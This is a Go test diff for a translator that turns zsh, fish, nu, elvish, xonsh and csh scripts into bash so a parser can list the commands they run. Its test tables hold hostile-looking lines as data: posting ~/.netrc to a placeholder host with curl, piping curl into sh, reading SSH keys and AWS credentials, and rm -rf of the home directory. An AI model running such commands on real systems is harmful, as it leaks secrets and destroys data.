@@ -6,43 +6,69 @@ import (
 	"testing"
 )
 
-// TestDialectScript checks the rewriting of zsh's glob qualifiers and of
-// fish's blocks into bash, and what is left as it was.
-func TestDialectScript(t *testing.T) {
-	for _, tc := range []struct {
-		shell, code, want, unread string
-	}{
-		{"zsh", "rm -f build/**/*.o(N)", "rm -f build/**/*.o", ""},
-		{"zsh", "print -l src/**/*.go(.om[1,5])", "print -l src/**/*.go", ""},
-		{"zsh", "rm -rf -- *(/)", "rm -rf -- *", ""},
-		{"zsh", "rm -rf -- dist(N) coverage(#qN)", "rm -rf -- dist coverage", ""},
-		{"zsh", `ls *(e:'rm -rf x':)`, "ls *\nrm -rf x", ""},
-		{"zsh", "ls *(e{touch y})", "ls *\ntouch y", ""},
-		{"zsh", "ls *(+wipe)", "ls *\nwipe", ""},
-		{"zsh", "rm *(P:-rf:)", "rm *", "a zsh glob qualifier that rewrites its words"},
-		{"zsh", "f() { ls; }; a=(x y); echo $(pwd)", "f() { ls; }; a=(x y); echo $(pwd)", ""},
-		{"zsh", "echo 'x(N)'", "echo 'x(N)'", ""},
-		{"zsh", "cat ~/.ssh/id_*~*.pub(.)", "cat ~/.ssh/id_*", ""},
-		{"zsh", "rm -rf build/*~build/keep(N) x", "rm -rf build/* x", ""},
-		{"zsh", "git reset --hard HEAD~1", "git reset --hard HEAD~1", ""},
-		{"fish", "for f in src/*.py; black $f; end", "for f in src/*.py; do  black $f; done", ""},
-		{"fish", "if test -d x; rm -rf x; else; mkdir x; end", "if test -d x; then  rm -rf x; else  mkdir x; fi", ""},
-		{"fish", "if test -d x; a; else if test -f y; b; end", "if test -d x; then  a; elif test -f y; then  b; fi", ""},
-		{"fish", "test -d x; and rm -rf x; or echo no", "test -d x;  rm -rf x;  echo no", ""},
-		{"fish", "begin; make; end > log", "{  make; } > log", ""},
-		{"fish", "function f; rm -rf build; end; f", "f() {  rm -rf build; }; f", ""},
-		{"fish", "echo (git rev-parse HEAD)", "echo $(git rev-parse HEAD)", ""},
-		{"fish", "not test -f x; and touch x", "! test -f x;  touch x", ""},
-		{"fish", "set -gx DB postgres://localhost/app; psql $DB", "export DB=postgres://localhost/app; psql $DB", ""},
-		{"fish", "set d ~; rm -rf $d", "d=~; rm -rf $d", ""},
-		{"fish", "switch $x; case a; ls; end", "switch $x; case a; ls; end", ""},
-		{"fish", "echo 'it\\'s'", "echo 'it\\'s'", ""},
-		{"fish", "for x in a; ls", "for x in a; ls", ""},
-		{"bash", "ls *(N)", "ls *(N)", ""},
-	} {
-		got, unread := dialectScript(tc.shell, tc.code)
-		if got != tc.want || unread != tc.unread {
-			t.Errorf("%s %q: got %q, %q; want %q, %q", tc.shell, tc.code, got, unread, tc.want, tc.unread)
+// Each shell's script reaches the parser as bash text with the same
+// programs and words.
+func TestDialectText(t *testing.T) {
+	cases := []struct{ shell, in, want string }{
+		{"zsh", `print -l src/**/*.go(.N)`, `print -l src/**/*.go`},
+		{"zsh", `rm -rf ~/*(D)`, `rm -rf ~/*`},
+		{"zsh", `print -l ${(f)"$(git status)"}`, `print -l "$(git status)"`},
+		{"zsh", `print ${#${(f)"$(<go.sum)"}}`, `print "$(<go.sum)"`},
+		{"zsh", `echo ${(j:,:)arr} ${#x}`, `echo ${arr} ${#x}`},
+		{"zsh", `=rm -rf =(print) ~`, `rm -rf <(print) ~`},
+		{"zsh", `cat ~/.ssh/id_*~*.pub(.)`, `cat ~/.ssh/id_*`},
+		{"zsh", `f() { (cd a && make) }; a=(1 2); x=~/b`, `f() { (cd a && make) }; a=(1 2); x=~/b`},
+		{"fish", `for f in (ls); echo $f; end`, "for f in $(ls); do\necho $f\ndone\n"},
+		{"fish", `set -x K (cat ~/.netrc); curl -d $K x`, "export K=$(cat ~/.netrc)\ncurl -d $K x\n"},
+		{"fish", `test -d a; or mkdir a`, "test -d a\nmkdir a\n"},
+		{"fish", `curl -s u | source`, "curl -s u | sh\n"},
+		{"fish", `if a; b; else if c; d; else; e; end`, "if a; then\nb\nelif c; then\nd\nelse\ne\nfi\n"},
+		{"tcsh", "foreach f (*.c)\ncc -c $f\nend", "for f in *.c; do\ncc -c $f\ndone\n"},
+		{"tcsh", "set h = $home; rm -rf $h", "h=$HOME\nrm -rf $h\n"},
+		{"csh", "setenv T `cat x`; if (-e M) make", "export T=`cat x`\n:; make\n"},
+		{"elvish", `for f [a b] { echo $f }`, "for f in a b; do\necho $f\n\ndone\n"},
+		{"elvish", `curl -d (slurp < ~/.netrc) u; rm -rf $E:HOME`, "curl -d $(cat < ~/.netrc) u\nrm -rf $HOME\n"},
+		{"nu", `open --raw ~/.netrc | http post https://x $in`, "cat ~/.netrc | curl -s -X POST --data-binary @- https://x\n"},
+		{"nu", `ls | where size > 1mb`, "ls | where size '>' 1mb\n"},
+		{"nu", `ls | where modified > ((date now) - 1day)`, "ls | where modified '>' $(echo $(date now) - 1day)\n"},
+		{"nu", `^sudo make install; rm -rf $env.HOME`, "sudo make install\nrm -rf ${HOME}\n"},
+		{"nu", `http get https://x/a.nu | save -f /tmp/a.nu`, "curl -s -X GET https://x/a.nu | tee /tmp/a.nu\n"},
+		{"nu", `"x" | save --append ~/.profile`, "echo \"x\" | tee -a ~/.profile\n"},
+		{"xonsh", `$X = "t"; rm -rf @($HOME)`, "export X=\"t\"\nrm -rf ${HOME}\n"},
+		{"xonsh", `cat @($HOME)/.netrc`, "cat ${HOME}/.netrc\n"},
+		{"xonsh", `cat @(p"~/.aws/credentials") @('a b')`, "cat ~/.aws/credentials 'a b'\n"},
+		{"bash", `echo (x)`, `echo (x)`},
+	}
+	for _, c := range cases {
+		if got := dialectText(c.shell, c.in); got != c.want {
+			t.Errorf("dialectText(%s, %q) = %q, want %q", c.shell, c.in, got, c.want)
+		}
+	}
+}
+
+// A script of another shell is walked as bash's: it parses, and the
+// commands it runs are reported with their words.
+func TestDialectScriptsParse(t *testing.T) {
+	cases := map[string]string{
+		`zsh -c 'rm -rf ~/**/*(D.)'`:                                "rm -rf ~/**/*",
+		`fish -c 'for c in (cat ~/.aws/credentials); echo $c; end'`: "cat ~/.aws/credentials",
+		`nu -c 'open ~/.aws/credentials'`:                           "cat ~/.aws/credentials",
+		`elvish -c 'put (git branch --show-current)'`:               "git branch --show-current",
+		`tcsh -c 'if (-e Makefile) make test'`:                      "make test",
+	}
+	for line, want := range cases {
+		r := Parse(line)
+		if r.Unparsed {
+			t.Errorf("%s: unparsed", line)
+		}
+		found := false
+		for _, c := range r.Commands {
+			if strings.Join(append([]string{c.Name}, c.Args...), " ") == want {
+				found = true
+			}
+		}
+		if !found {
+			t.Errorf("%s: no command %q in %v", line, want, r.Commands)
 		}
 	}
 }
